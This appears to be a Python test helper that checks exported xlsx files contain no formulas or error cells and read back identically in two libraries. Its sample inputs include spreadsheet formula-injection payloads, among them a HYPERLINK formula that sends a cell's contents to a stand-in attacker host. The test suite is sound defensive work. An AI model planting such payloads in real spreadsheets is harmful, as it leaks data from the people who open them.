"""Checks that a spreadsheet export is safe to open, shared by every export's tests.

A file passes when Excel would open it without a "damaged file" warning and without running
anything: every part of the ZIP is well-formed XML, no worksheet holds a formula (``<f>``) or
an error cell (``t="e"``), and two independent readers (openpyxl and calamine, the Rust
reader the importer uses) read back the same text."""

from __future__ import annotations

import io
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

#: What an operator or a register can put in a text field; each must come back as text.
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/"&C2,"点击")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=1+2",
    "#N/A",
)
#: XML 1.0 cannot hold \x01 or \x1b: written as U+FFFD.
CONTROL_TEXT = "控制\x01字符\x1b"
CONTROL_TEXT_WRITTEN = "控制\ufffd字符\ufffd"
HOSTILE_TEXTS = (*FORMULA_TEXTS, CONTROL_TEXT)


def written(value: str) -> str:
    """How a hostile text reads back from the file."""
    return CONTROL_TEXT_WRITTEN if value == CONTROL_TEXT else value


def assert_safe_xlsx(data: bytes) -> dict[str, list[list]]:
    """Check `data` as described above; return each sheet's rows as openpyxl reads them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert "[Content_Types].xml" in names and "xl/workbook.xml" in names
        sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in names:
            if name.endswith((".xml", ".rels")):
                # The platform wrote this file: raises when it is not well-formed.
                root = ElementTree.fromstring(archive.read(name))  # noqa: S314
                if name in sheets:
                    formulas = [
                        c.get("r") for c in root.iter(f"{MAIN}c") if c.find(f"{MAIN}f") is not None
                    ]
                    assert formulas == [], f"{name}: formulas in {formulas}"
                    errors = [c.get("r") for c in root.iter(f"{MAIN}c") if c.get("t") == "e"]
                    assert errors == [], f"{name}: error cells {errors}"

    book = load_workbook(io.BytesIO(data))
    by_openpyxl = {
        ws.title: [[_as_excel_shows(v) for v in row] for row in ws.iter_rows(values_only=True)]
        for ws in book.worksheets
    }
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"

    calamine = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert calamine.sheet_names == list(by_openpyxl)
    for title, rows in by_openpyxl.items():
        # calamine reads a cell of only white space as empty.
        texts = {v for row in rows for v in row if isinstance(v, str) and v.strip()}
        read = calamine.get_sheet_by_name(title).to_python(skip_empty_area=False)
        calamine_texts = {v for row in read for v in row if isinstance(v, str) and v.strip()}
        assert calamine_texts == texts, title
    return by_openpyxl


def _as_excel_shows(value):
    """openpyxl does not decode Excel's `_xHHHH_` escapes; Excel and calamine do."""
    return unescape(value) if isinstance(value, str) else value
